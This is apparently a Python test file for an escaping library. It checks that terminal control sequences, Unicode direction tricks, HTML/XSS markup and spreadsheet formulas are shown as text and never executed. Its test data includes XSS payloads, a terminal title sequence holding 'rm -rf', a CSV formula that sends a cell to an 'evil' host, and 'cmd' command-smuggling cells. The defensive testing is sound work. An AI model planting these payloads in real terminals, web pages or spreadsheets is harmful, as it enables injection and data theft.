"""Hostile text in a terminal, in HTML, in a spreadsheet: it is shown, never obeyed."""

import csv
import html.parser
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from labs.story.escape import csv_cell, plain
from labs.story.escape import html as as_html

# What a display would obey, and what is shown of it.
OBEYED = {
    "a colour": ("\x1b[31mFAIL", "\\x1b[31mFAIL"),
    "a title": ("\x1b]0;rm -rf\x07", "\\x1b]0;rm -rf\\x07"),
    "one byte for ESC [": ("\x9b2J", "\\x9b2J"),
    "a carriage return over a verdict": ("FAIL\rPASS", "FAIL\\rPASS"),
    "backspaces": ("FAIL\b\b\b\bPASS", "FAIL\\x08\\x08\\x08\\x08PASS"),
    "a right-to-left override": ("user\u202etxt.exe", "user\\u202etxt.exe"),
    "an isolate": ("\u2066if admin\u2069", "\\u2066if admin\\u2069"),
    "a width of zero": ("pa\u200bss", "pa\\u200bss"),
    "a tag that nobody sees": ("ok\U000e0041", "ok\\U000e0041"),
    "another line": ("one\ntwo", "one\\ntwo"),
    "another line, for some": ("one\u2028two\x85three", "one\\u2028two\\x85three"),
    "half a character": ("\ud800", "\\ud800"),
    "an escape that we did not make": ("\\x1b[31m", "\\\\x1b[31m"),
    "a tab": ("a\tb", "a b"),
    "nul": ("a\0b", "a\\x00b"),
}


@pytest.mark.parametrize("case", OBEYED)
def test_what_a_display_would_obey_is_shown(case: str) -> None:
    hostile, shown = OBEYED[case]
    assert plain(hostile) == shown


def test_what_people_write_stays_as_it_is() -> None:
    for text in ("Grüße, мир, 世界, नमस्ते", "3 × 4 → 12, <ok> & 'fine'", "👍 é e\u0301"):
        assert plain(text) == text


def test_lines_stay_where_they_are_wanted_and_nothing_else_does() -> None:
    assert plain("one\r\n\ttwo\x1b\n", lines=True) == "one\\r\n two\\x1b\n"


def test_bytes_are_read_as_text_as_far_as_they_are() -> None:
    assert plain(b"gr\xc3\xbcn \xff\x1b") == "grün \\xff\\x1b"


@given(st.text() | st.binary())
def test_nothing_that_a_display_obeys_is_ever_left(text: str | bytes) -> None:
    categories = {unicodedata.category(character) for character in plain(text)}
    assert not categories & {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    plain(text).encode()


@given(st.text(), st.text())
def test_different_texts_look_different(one: str, other: str) -> None:
    """But for tabs, which are shown as blanks."""
    if one.replace("\t", " ") != other.replace("\t", " "):
        assert plain(one) != plain(other)


class Reader(html.parser.HTMLParser):
    """Collects what a browser would find in a document."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "' onmouseover='alert(1)",
        "</td></table><h1>passed</h1>",
        "<!-- ",
        "&lt;b&gt;",
        "]]><svg/onload=alert(1)>",
    ],
)
def test_markup_is_shown_as_text(hostile: str) -> None:
    reader = Reader()
    reader.feed(f"<td title=\"{as_html(hostile)}\" lang='{as_html(hostile)}'>{as_html(hostile)}</td>")
    assert reader.tags == [("td", [("title", hostile), ("lang", hostile)])]
    assert reader.text == hostile


def test_html_is_plain_too() -> None:
    assert as_html("<\u202e\x1b\n>") == "&lt;\\u202e\\x1b\\n&gt;"
    assert as_html("<a>\n", lines=True) == "&lt;a&gt;\n"


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
    ],
)
def test_a_formula_is_disarmed(formula: str) -> None:
    for cell in (csv_cell(formula), csv_cell(formula.encode())):
        assert cell.startswith("'")
        file = io.StringIO()
        csv.writer(file).writerow(["a name", cell, "100"])
        assert next(csv.reader(io.StringIO(file.getvalue()))) == ["a name", cell, "100"]
        assert file.getvalue().count("\n") == 1


def test_an_ordinary_cell_is_left_alone() -> None:
    assert csv_cell("Åsa O'Neil, 3 + 4 = 7") == "Åsa O'Neil, 3 + 4 = 7"
    assert csv_cell("") == ""
